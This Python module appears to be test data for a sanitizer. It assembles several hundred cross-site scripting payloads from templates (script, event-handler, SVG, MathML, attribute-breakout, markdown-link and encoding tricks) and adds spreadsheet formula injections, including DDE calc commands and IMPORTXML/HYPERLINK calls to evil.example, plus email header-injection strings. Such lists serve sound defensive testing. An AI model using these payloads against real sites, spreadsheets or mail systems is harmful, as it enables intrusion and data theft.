"""Three hundred things people have typed to make a page do something: ways in, times what they would run."""

RUN = ("lmsRan(1)", "alert(1)", "top.lmsRan(1)", "self['lms'+'Ran'](1)", "lmsRan`1`")
HTML = (
    "<script>{run}</script>", "<ScRiPt >{run}</sCrIpT>", "<script src=data:,{run}></script>", "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'/>", "<body onload={run}>", "<input autofocus onfocus={run}>", "<details open ontoggle={run}>x",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>", "<iframe src=javascript:{run}></iframe>",
    "<object data=javascript:{run}></object>", "<embed src=javascript:{run}>", "<marquee onstart={run}>x</marquee>",
    "<video><source onerror={run}></video>", "<audio src=x onerror={run}>", "<base href='javascript:{run}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<form action=javascript:{run}><button>x</button></form>",
    "<a href=javascript:{run}>x</a>", "<style>@import 'javascript:{run}';</style>", "<p style='background:url(javascript:{run})'>x",
    "<link rel=stylesheet href=javascript:{run}>", "<template><script>{run}</script></template>", "<xss onpointerover={run}>x",
)  # fmt: skip
DRAWN = (
    "<svg onload={run}>", "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg onload={run}>'>",
    "<svg><foreignObject><iframe onload={run}></foreignObject></svg>", "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mtext><mglyph><style><img src=x onerror={run}>", "<math href='javascript:{run}'>x</math>",
    "<math><annotation-xml encoding='text/html'><script>{run}</script></annotation-xml></math>",
)  # fmt: skip
ATTRIBUTES = (
    '" onmouseover="{run}', "' autofocus onfocus='{run}", '"><script>{run}</script>', "'><img src=x onerror={run}>",
    "` onfocus={run} autofocus x=`", '" style="animation:x" onanimationstart="{run}', "x onerror={run} src=x", "</textarea><script>{run}</script>",
    "</title><script>{run}</script>", "--><script>{run}</script>", "]]><script>{run}</script>",
)  # fmt: skip
LINKS = (
    "[x](javascript:{run})", "[x](JaVaScRiPt:{run})", "[x](java\tscript:{run})", "[x](data:text/html,<script>{run}</script>)",
    '![x](x" onerror="{run})', "[x]: javascript:{run}\n[x]", "<javascript:{run}>", "[x](vbscript:{run})", "[x](&#106;avascript:{run})",
)  # fmt: skip
OTHER = (
    "{{% print {run} %}}", "{{{{ {run} }}}}", "${{{run}}}", "#{{{run}}}", "\u202e<script>{run}</script>", "<scr\u200bipt>{run}</scr\u200bipt>",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-", "%3Cscript%3E{run}%3C/script%3E", "&lt;script&gt;{run}&lt;/script&gt;",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", " =1", "'=1", '"=1', "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example")',
    '=IMPORTXML("http://evil.example")', "\n=1", "-2+3+cmd|' /C calc'!A0", "@A1", "\u00a0=1", "\uff1d1+1", "\u200b=1",
)  # fmt: skip
HEADERS = (
    "x\r\nBcc: victim@example.org",
    "x\nContent-Type: text/html\n\n<script>",
    "x\u2028Bcc: a@b",
    "x%0d%0aBcc: a@b",
    "x\0y",
)
PAYLOADS = [
    *(way.format(run=run) for way in (*HTML, *DRAWN, *ATTRIBUTES, *LINKS, *OTHER) for run in RUN),
    *FORMULAS,
    *HEADERS,
]
